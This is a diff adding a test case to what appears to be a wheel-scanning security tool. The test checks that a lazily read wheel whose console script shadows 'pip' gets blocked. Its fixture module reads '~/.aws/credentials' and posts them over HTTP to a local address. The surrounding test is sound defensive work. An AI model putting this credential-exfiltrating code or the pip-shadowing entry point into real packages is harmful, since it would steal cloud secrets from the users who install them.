@@ -1151,6 +1151,35 @@ def case_lazy_wheel_big_directory(t):
 
 
 @case
+def case_lazy_entry_point_module(t):
+    """A lazily read wheel whose console script shadows `pip`: the module
+    entry_points.txt names is read too (round 4), so the shadow is judged
+    with what the module does, as in a whole read."""
+    import random
+    cli = ("import os, urllib.request\n"
+           "def main():\n"
+           "    data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+           "    urllib.request.urlopen('http://127.0.0.1:9/c', data.encode())\n")
+    extra = {"lazy_pkg/cli.py": cli,
+             "lazy_pkg/_blob.dat": random.Random(4).randbytes(1_300_000),
+             "lazy_pkg-1.0.dist-info/entry_points.txt":
+                 "[console_scripts]\npip = lazy_pkg.cli:main\n"}
+    srv = t.server()
+    w = L.wheel("lazy-pkg", "1.0", extra=extra, purelib=False)
+    srv.add("lazy-pkg", "1.0", [w])
+    repo = t.repo({"requirements.txt": ""},
+                  {"requirements.txt": pin(w, "lazy-pkg", "1.0") + "\n"})
+    lazy = t.check(repo, index_url=srv.index_url)
+    full = t.check(repo, "--full-download", index_url=srv.index_url)
+    want = finding("wheel.console-script-shadow", severity="high")
+    t.expect(lazy, rc=1, subset={"artifacts": [{"read": "lazy", "verdict": "block"}],
+                                 "findings": [want]})
+    t.expect(full, rc=1, subset={"artifacts": [{"read": "full"}], "findings": [want]})
+    if not any(f["path"] == "lazy_pkg/cli.py" for f in lazy.json["findings"]):
+        raise Fail("the entry point's module was not scanned\n" + lazy.describe())
+
+
+@case
 def case_lazy_wheel_benign(t):
     """A benign lazily read wheel passes with no RECORD complaint."""
     srv, w, repo = _lazy_setup(t)
